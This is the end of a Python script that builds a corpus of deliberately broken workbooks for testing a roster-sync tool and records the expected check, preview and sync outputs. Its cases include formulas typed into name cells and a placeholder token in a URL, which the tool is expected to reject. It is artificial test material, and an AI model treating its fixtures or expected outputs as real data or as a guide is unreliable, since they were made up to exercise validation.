        "book_snapshot_duplicate_row_id.xlsx": ("scim", "two snapshot rows with one row id", _snapshot_cell("A6", "r1"), None,
                                                _unusable("book_snapshot_duplicate_row_id.xlsx", 1, DAMAGED, "_snapshot!A6")),
        "book_snapshot_row_without_check.xlsx": ("scim", "a snapshot row's check erased", _snapshot_cell("B7", None), None,
                                                 _unusable("book_snapshot_row_without_check.xlsx", 1, DAMAGED, "_snapshot!A7")),
        "book_snapshot_truncated.xlsx": ("scim", "the snapshot's last rows deleted", _snapshot_rows_deleted(10, 4), None,
                                         _unusable("book_snapshot_truncated.xlsx", 1, DAMAGED, "rows deleted, added or moved")),
        "book_snapshot_reordered.xlsx": ("scim", "two rows of the snapshot swapped", _snapshot_rows_swapped(3, 8), None,
                                         _unusable("book_snapshot_reordered.xlsx", 1, DAMAGED, "rows deleted, added or moved")),
        "book_snapshot_column_sorted.xlsx": ("scim", "one column of the snapshot sorted on its own", _snapshot_column_reversed("C"), None,
                                             _unusable("book_snapshot_column_sorted.xlsx", 1, DAMAGED, "do not match their check")),
        "book_snapshot_unhidden_edited.xlsx": ("scim", "the snapshot made visible, an entry edited and a row id erased", _snapshot_visible_and_edited, None,
                                               _unusable("book_snapshot_unhidden_edited.xlsx", 1, DAMAGED, "_snapshot!A3")),
        "book_row_id_column_deleted.xlsx": ("scim", "the hidden _row_id column deleted", _delete_row_id_column, None,
                                            _unusable("book_row_id_column_deleted.xlsx", 1, no_row_ids)),
        # The row is matched to its user by key for the preview, but a sync refuses it: preview exits 1 too.
        "book_row_id_edited.xlsx": ("scim", "a hidden row id edited", _users_cell("_row_id", 4, "r999"), None, [
            _book_run(["check", "--no-write"], 1, "Users!V4 _row_id: hidden row id 'r999' is not in the export snapshot (edited, or pasted from another "
                      "workbook). Revert the row or export again.", "12 rows checked: 1 error, 0 warnings."),
            _book_run(["preview"], 1, "unchanged row 4 aoife.macgiolla@lumen.example", "note: matched to the exported user 'aoife.macgiolla@lumen.example' "
                      "by key: the row has no row id of that user", writes=("book_row_id_edited.xlsx",), requests="reads"),
            _book_run(["sync", "--yes"], 1, "Row 4: the hidden row id is not in the export snapshot, so the row cannot be matched to a user; nothing was sent."),
        ]),
        "book_dialect_sheet_edited.xlsx": ("scim", "the very hidden _dialect sheet edited", _dialect_edit, None,
                                           _unusable("book_dialect_sheet_edited.xlsx", 1, "_dialect: the stored platform dialect was edited and is no longer valid. Export again.")),
        # Headers.
        "book_key_header_renamed.xlsx": ("scim", "the key column's header renamed", _rename_header("Username", "Login name"), None,
                                         _header_errors("book_key_header_renamed.xlsx", [no_username, login_name], login_name, sync_first=no_username)),
        "book_header_duplicated.xlsx": ("scim", "two columns headed Email", _rename_header("Job title", "Email"), None,
                                        _header_errors("book_header_duplicated.xlsx", ["Users!F1 Email: 'Email' names column 'Email' again (first in D1)."],
                                                       "Users!F1 Email: 'Email' names column 'Email' again (first in D1).")),
        "book_header_blank.xlsx": ("scim", "the key column's header erased", _rename_header("Username", None), None,
                                   _header_errors("book_header_blank.xlsx", [no_username, blank_header], no_username)),
        "book_merged_header.xlsx": ("scim", "header cells A1:B1 merged (B1's header is lost)", _merge("A1:B1"), None,
                                    # Preview cannot write its marks into the merged header: it says so and writes nothing.
                                    _header_errors("book_merged_header.xlsx", [merged_a1, merged_b1], merged_a1, preview=_book_run(
                                        ["preview"], 1, "Users!B1 is inside merged cells, so nothing can be written there: unmerge them and run again."))),
        "book_merged_data_cells.xlsx": ("scim", "Status cells E3:E5 merged: E4 and E5 lose their value", _merge("E3:E5"), None, [
            _book_run(["check", "--no-write"], 1, "Users!E3 Status: E3:E5 are merged cells: only E3 holds a value, the others read as blank. "
                      "Unmerge them and fill in each cell.", *[f"Users!E{row} Status: blank keeps the current value on SCIM 2.0 platform: 'Active' will "
                                                               "not be cleared" for row in (4, 5)], "12 rows checked: 1 error, 2 warnings."),
            # Blank keeps the current value, so the unchanged rows send nothing.
            _book_run(["preview"], 0, f"Plan for {scim}: " + NOTHING_CHANGED.format(12, 0), writes=("book_merged_data_cells.xlsx",)),
            _book_run(["sync", "--yes"], 0, "Synced 0 rows: 0 confirmed, 0 failed.", writes=("book_merged_data_cells.xlsx",)),
        ]),
        # Cells.
        "book_formula_in_name.xlsx": ("scim", "a formula typed into a name", _users_cell("First name", 3, '=PROPER("amara")'), None,
                                      _row_errors("book_formula_in_name.xlsx", scim, 12, [(3, "oluwaseun.nwosu@lumen.example",
                                                  "First name: 'Oluwaseun' -> '=PROPER(\"amara\")'", f"Users!B3 First name: '=PROPER(\"amara\")' {formula}")])),
        "book_formula_in_key.xlsx": ("scim", "a formula building the key", _users_cell("Username", 5, '=LOWER(B5)&"@lumen.example"'), None,
                                     _row_errors("book_formula_in_key.xlsx", scim, 12, [(5, '=LOWER(B5)&"@lumen.example" (was anais.benard@lumen.example)',
                                                 "Username: 'anais.benard@lumen.example' -> '=LOWER(B5)&\"@lumen.example\"'",
                                                 f"Users!A5 Username: '=LOWER(B5)&\"@lumen.example\"' {formula}")])),
        "book_number_in_id.xlsx": ("scim", "an Employee ID Excel turned into a number past 15 digits", _users_cell("Employee ID", 6, 1.2345678901234567e19), None,
                                   _row_errors("book_number_in_id.xlsx", scim, 12, [(6, "anais.lemaitre@lumen.example",
                                               "Employee ID: '000004' -> '1.234567890123457e+19'", number)])),
        # A warning does not block: sync sends the edit (on a sandbox of its own) and the platform holds it.
        "book_number_in_id_warning.xlsx": ("scim", "an Employee ID typed as a number: leading zeros may be lost (a warning)",
                                           _users_cell("Employee ID", 6, 17), None, [
            _book_run(["check", "--no-write"], 0, "Users!N6 Employee ID: '17' was stored as a number, so leading zeros may have been lost. "
                      "Format the column as Text and check the ID. (warning)", "12 rows checked: 0 errors, 1 warning."),
            _book_run(["preview"], 0, f"Plan for {scim}: 0 create, 1 update, 0 archive, 0 rename, 0 conflict, 11 unchanged, 0 deactivate, 0 error",
                      "update row 6 anais.lemaitre@lumen.example", "Employee ID: '000004' -> '17'", writes=("book_number_in_id_warning.xlsx",), requests="reads"),
            {**_book_run(["sync", "--yes"], 0, "Synced 1 rows: 1 confirmed, 0 failed.", writes=("book_number_in_id_warning.xlsx",), requests="sends"),
             "platform_after": [{"userName": "anais.lemaitre@lumen.example", "path": ["urn:ietf:params:scim:schemas:extension:enterprise:2.0:User",
                                                                                      "employeeNumber"], "value": "17"}]},
        ]),
        "book_date_in_name.xlsx": ("scim", "a date where a name is expected", _users_cell("Last name", 7, _date()), None,
                                   _row_errors("book_date_in_name.xlsx", scim, 12, [(7, "francois.rousseau@lumen.example",
                                               "Last name: 'Rousseau' -> '2024-03-01'", date)])),
        "book_bad_status_and_email.xlsx": ("scim", "a misspelt status and an invalid email",
                                           _all(_users_cell("Status", 8, "actve"), _users_cell("Email", 9, "not-an-email")), None,
                                           _row_errors("book_bad_status_and_email.xlsx", scim, 12, [
                                               (8, "dmytro.bondarenko@lumen.example", "Status: 'Active' -> 'actve'", status),
                                               (9, "siobhan.byrne@lumen.example", "Email: 'siobhan.byrne@lumen.example' -> 'not-an-email'", email)])),
        "book_empty_users_sheet.xlsx": ("scim", "the Users sheet emptied, header included", _clear_users, None,
                                        _unusable("book_empty_users_sheet.xlsx", 1, no_row_ids)),
        # Settings.
        "book_settings_token_in_url.xlsx": ("scim", "a token pasted into the platform URL",
                                            lambda wb: _set_setting(wb, "platform_url", "https://admin:s3cr3t-T0KEN@example.com/scim/v2"), None,
                                            _unusable("book_settings_token_in_url.xlsx", 1, "Settings!B3 platform_url: looks like it carries a credential; "
                                                      "a workbook must never hold a token. Write the URL alone, then run `rosterbook login URL` "
                                                      "(the token is kept in the OS keyring).")),
        "book_settings_unknown_dialect.xlsx": ("scim", "an unknown dialect in Settings", lambda wb: _set_setting(wb, "dialect", "workday"), None,
                                               _unusable("book_settings_unknown_dialect.xlsx", 2,
                                                         "unknown dialect 'workday': expected one of 'edapp', 'incenteev', 'jostle', 'progression', 'scim'")),
        "book_settings_bad_threshold.xlsx": ("scim", "a deletion threshold over 100%", lambda wb: _set_setting(wb, "deletion_threshold_ratio", "150%"), None,
                                             _unusable("book_settings_bad_threshold.xlsx", 1,
                                                       "Settings!B5 deletion_threshold_ratio: '150%' is not a number between 0 and 1.")),
        "book_settings_unknown_key.xlsx": ("scim", "an unknown setting", _settings_extra_row, None,
                                           _unusable("book_settings_unknown_key.xlsx", 1, "Settings!A8: 'api_token' is not a setting; expected one of 'dialect', "
                                                     "'platform_url', 'subscription_seats', 'invite_new_users', 'list_mode', 'deactivate_missing', "
                                                     "'deletion_threshold_ratio', 'deletion_threshold_min'.")),
        # A CSV platform's workbook: sync would write an upload file; a bad cell must stop that too.
        "book_progression_bad_cells.xlsx": ("progression", "a Progression workbook with a misspelt status and a formula",
                                            _all(_users_cell("account_active", 4, "actve"), _users_cell("Last Name", 6, "=1+1")), None,
                                            _row_errors("book_progression_bad_cells.xlsx", "Progression", 18, [
                                                (4, "zoe.lefevre@example.com", "account_active: 'Active' -> 'actve'", p_status),
                                                (6, "rahul.menon@example.com", "Last Name: 'Menon' -> '=1+1'", p_formula)], reads=False)),
    }
    return cases


def _date() -> Any:
    import datetime as dt

    return dt.datetime(2024, 3, 1)


def _plain_workbook() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "Users"
    ws.append(["Username", "First name", "Last name", "Email"])
    ws.append(["amara.okafor", "Amara", "Okafor", "amara.okafor@example.com"])
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _dialect_edit(wb: WorkbookType) -> None:
    ws = wb["_dialect"]
    ws["A2"] = str(ws["A2"].value)[:-40] + "oops"


def _settings_extra_row(wb: WorkbookType) -> None:
    ws = wb["Settings"]
    ws.append(["api_token", "abc", ""])


# --- writing ------------------------------------------------------------------------------------


def expectations(folder: Path) -> Expected:
    """The expectations for the corpus files in ``folder`` (as committed)."""
    expected: Expected = {}
    for name, (_, why, runs) in sorted(csv_cases().items()):
        expected[name] = {"why": why, "runs": runs}
    for name, (_, why, _, _, runs) in sorted(book_cases().items()):
        expected[name] = {"why": why, "runs": runs, **({"platform_url": PLACEHOLDER_URL} if _points_at_placeholder(folder / name) else {})}
    return expected


def _write_expected(out: Path, expected: Expected) -> None:
    (out / "EXPECTED.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False, sort_keys=True) + "\n", encoding="utf-8")


def write_corpus(out: Path) -> Expected:
    """Write every file into ``out`` and return the expectations (also written as EXPECTED.json)."""
    out.mkdir(parents=True, exist_ok=True)
    for old in out.iterdir():
        if old.is_file() and old.suffix in (".csv", ".xlsx", ".json"):
            old.unlink()
    expected: Expected = {}
    for name, (data, why, runs) in sorted(csv_cases().items()):
        (out / name).write_bytes(data)
        expected[name] = {"why": why, "runs": runs}
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        bases: dict[str, Path] = {}
        for name, (base, why, edit, raw, runs) in sorted(book_cases().items()):
            target = out / name
            if raw is not None:
                target.write_bytes(raw)
            else:
                if base not in bases:
                    bases[base] = _scim_base(folder) if base == "scim" else _progression_base(folder)
                shutil.copyfile(bases[base], target)
                wb = load_workbook(target)
                assert edit is not None
                edit(wb)
                wb.save(target)
            expected[name] = {"why": why, "runs": runs, **({"platform_url": PLACEHOLDER_URL} if _points_at_placeholder(target) else {})}
    _write_expected(out, expected)
    return expected


def _points_at_placeholder(path: Path) -> bool:
    try:
        wb = load_workbook(path)
    except Exception:  # not a workbook at all: nothing to point anywhere
        return False
    if "Settings" not in wb.sheetnames:
        return False
    return any(row[0] == "platform_url" and row[1] == PLACEHOLDER_URL for row in wb["Settings"].iter_rows(min_row=2, values_only=True))


def main() -> None:
    """Command line: write the corpus (default into tests/samples/bad)."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, default=BAD)
    parser.add_argument("--expected-only", action="store_true", help="rewrite EXPECTED.json from the files already in --out")
    args = parser.parse_args()
    if args.expected_only:
        expected = expectations(args.out)
        _write_expected(args.out, expected)
        print(f"expectations for {len(expected)} files written to {args.out / 'EXPECTED.json'}")
        return
    expected = write_corpus(args.out)
    print(f"{len(expected)} files written to {args.out}")


if __name__ == "__main__":
    main()
